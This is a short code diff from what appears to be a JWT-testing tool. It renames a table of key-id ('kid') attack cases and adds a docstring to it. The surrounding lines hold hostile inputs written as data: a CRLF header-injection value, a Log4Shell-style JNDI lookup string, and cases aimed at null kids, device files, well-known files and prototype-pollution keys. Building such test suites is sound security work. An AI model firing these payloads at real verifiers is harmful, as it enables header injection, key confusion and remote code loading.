@@ -53,7 +53,7 @@ _TEMPLATES = (
     "kid%0d%0aX-Key:1",
     "${jndi:ldap://keys.invalid/a}",
 )
-_SHARED: dict[str, tuple[str, Kids]] = {
+SHARED: dict[str, tuple[str, Kids]] = {
     "J088": ("kid empty or null", (("", b""), (None, b""))),
     "J089": ("kid a device without contents", tuple((kid, b"") for kid in _NULLS)),
     "J090": ("kid a file that everybody knows", tuple(_FILES.items())),
@@ -66,6 +66,7 @@ _SHARED: dict[str, tuple[str, Kids]] = {
     "J097": ("kid of another type", ((0, b""), (["a"], b""), (True, b""), (1.5, b""))),
     "J099": ("kid of every object", tuple((kid, b"") for kid in ("__proto__", "constructor", "toString"))),
 }
+"""Key ids and what they lead to, by class."""
 
 
 def _maker(kids: Kids) -> Maker:
@@ -81,7 +82,7 @@ def _maker(kids: Kids) -> Maker:
     return make
 
 
-for _ident, (_name, _kids) in _SHARED.items():
+for _ident, (_name, _kids) in SHARED.items():
     FAMILY.of(_ident, _name, _VIOLATES)(_maker(_kids))
 
 
